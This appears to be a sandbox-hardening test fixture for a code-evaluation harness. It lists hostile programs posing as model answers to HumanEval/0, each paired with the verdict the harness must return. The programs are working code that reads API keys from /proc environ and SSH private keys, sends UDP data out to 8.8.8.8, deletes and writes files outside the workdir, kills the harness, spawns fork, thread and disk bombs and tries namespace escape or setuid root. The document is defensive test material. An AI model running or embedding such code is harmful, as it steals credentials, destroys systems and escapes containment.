"""Hostile programs, each a model's answer to HumanEval/0 (`has_close_elements`).

Each defines the function so that the chat protocol grades it; the attack runs when the module is
imported or when the test calls the function. `{...}` fields are filled in by the test: ports of
listeners on the host, paths of harness files, the harness's pid. `VERDICTS` says what each must
get: never a pass, and never a sandbox or infra error (those would be retried, not counted).
"""

from __future__ import annotations

HEADER = "import os, sys, time, socket, signal, shutil, threading\n"
WRONG = "\ndef has_close_elements(numbers, threshold):\n    {body}\n    return 'wrong'\n"


def at_call(body: str) -> str:
    """The attack runs inside the function, each time the test calls it."""
    lines = body.strip("\n").splitlines()
    return HEADER + WRONG.replace("{body}", "\n    ".join(lines))


def at_import(body: str) -> str:
    """The attack runs when the module is imported, before any call."""
    return HEADER + body.strip("\n") + "\n" + WRONG.replace("{body}", "pass")


ATTACKS: dict[str, str] = {
    "tcp to the host's loopback": at_call(
        "socket.create_connection(('127.0.0.1', {tcp_port}), timeout=2).sendall(b'hi')"),
    "tcp to the internet": at_call("socket.create_connection(('1.1.1.1', 53), timeout=2)"),
    "udp to the host and the internet": at_import("""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'exfiltrated', ('127.0.0.1', {udp_port}))
s.sendto(b'exfiltrated', ('8.8.8.8', 53))
"""),
    "dns lookup": at_call("socket.getaddrinfo('pypi.org', 443)"),
    "read the harness's api keys": at_import("""
found = [v for v in os.environ.values()]
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    try:
        found.append(open(f'/proc/{{pid}}/environ', 'rb').read().decode(errors='replace'))
    except OSError:
        pass
print(found)
raise RuntimeError(str(found))
"""),
    "read ~/.ssh, harness files and the store": at_import("""
stolen = []
for path in {secret_paths!r} + [os.path.expanduser('~/.ssh/id_rsa'), '/root/.ssh/id_rsa']:
    try:
        stolen.append(open(path, 'rb').read().decode(errors='replace'))
    except OSError as exc:
        stolen.append(type(exc).__name__)
print(stolen)
raise RuntimeError(str(stolen))
"""),
    "write outside the workdir": at_call("""
for path in {outside_files!r}:
    try:
        with open(path, 'w') as fh:
            fh.write('pwned')
    except OSError:
        pass
"""),
    "delete outside the workdir": at_call("""
for path in {delete_targets!r}:
    shutil.rmtree(path, ignore_errors=True)
    try:
        os.remove(path)
    except OSError:
        pass
"""),
    "fork bomb": at_import("""
while True:
    try:
        os.fork()
    except OSError:
        pass
"""),
    "memory bomb": at_call("blocks = [bytearray(256 << 20) for _ in range(64)]"),
    "cpu spin": at_import("while True:\n    pass"),
    "sleep forever": at_call("time.sleep(10 ** 6)"),
    "a gigabyte of output": at_import("""
chunk = 'x' * (1 << 20)
for _ in range(1024):
    sys.stdout.write(chunk)
"""),
    "a daemon that outlives the program": at_import("""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for i in range(600):
            try:
                open('/tmp/codetrial-daemon-was-here', 'a').write('x')
            except OSError:
                pass
            time.sleep(0.05)
    os._exit(0)
"""),
    "signal the harness and everyone": at_call("""
for target in ({harness_pid}, -1, 1, os.getppid()):
    for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        try:
            os.kill(target, sig)
        except OSError:
            pass
"""),
    "kill other samples": at_call("""
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
"""),
    "fill the disk": at_import("""
chunk = b'x' * (4 << 20)
for where in ('.', '/dev/shm', '/tmp'):
    for i in range(1000):
        try:
            with open(os.path.join(where, f'fill{{i}}'), 'wb') as fh:
                for _ in range(8):
                    fh.write(chunk)
        except OSError:
            break
"""),
    "exhaust file descriptors": at_import("""
held = []
try:
    while True:
        held.append(open('/dev/null'))
except OSError:
    pass
"""),
    "thread bomb": at_import("""
def nap():
    time.sleep(10 ** 6)
while True:
    threading.Thread(target=nap).start()
"""),
    "stop itself": at_call("os.kill(os.getpid(), signal.SIGSTOP)"),
    "infinite recursion": at_call("def down(n):\n    return down(n + 1)\ndown(0)"),
    "become root or leave the namespaces": at_import("""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x20000000, 0x40000000):  # user, pid, net namespaces
    if libc.unshare(flags) == 0:
        raise SystemExit('escaped')
os.setuid(0)
"""),
    "garbage on the result channel": at_import("os.write(3, b'[' * 200000 + b'\\n')\nos._exit(0)"),
    "a flood of stderr": at_import("""
for _ in range(4096):
    sys.stderr.write('e' * 65536)
"""),
}

# Sets of acceptable verdicts (as stored). Never "passed", "sandbox-error" or "infra-error".
VERDICTS: dict[str, set[str]] = {
    "tcp to the host's loopback": {"error"},
    "tcp to the internet": {"error"},
    "udp to the host and the internet": {"error", "failed"},
    "dns lookup": {"error"},
    "read the harness's api keys": {"error"},
    "read ~/.ssh, harness files and the store": {"error"},
    "write outside the workdir": {"failed"},
    "delete outside the workdir": {"failed"},
    "fork bomb": {"timeout"},
    # on a loaded machine the 2 s budget can run out before the address-space limit is hit;
    # without the limit the blocks (lazily zeroed) would be granted and the verdict would differ
    "memory bomb": {"oom", "timeout"},
    "cpu spin": {"timeout"},
    "sleep forever": {"timeout"},
    "a gigabyte of output": {"error"},
    "a daemon that outlives the program": {"failed"},
    "signal the harness and everyone": {"failed"},
    "kill other samples": {"failed"},
    # about 600 MB of tmpfs writes: on a loaded machine (or one whose freed memory went back to
    # its host) the 2 s budget can run out before the caps are hit; that the caps hold, and
    # that nothing is left, tests/sandbox/test_sandbox_limits.py checks without a deadline
    "fill the disk": {"failed", "timeout"},
    "exhaust file descriptors": {"failed"},
    "thread bomb": {"error", "timeout"},
    "stop itself": {"timeout"},
    "infinite recursion": {"error"},
    "become root or leave the namespaces": {"error"},
    "garbage on the result channel": {"error"},
    "a flood of stderr": {"error"},
}
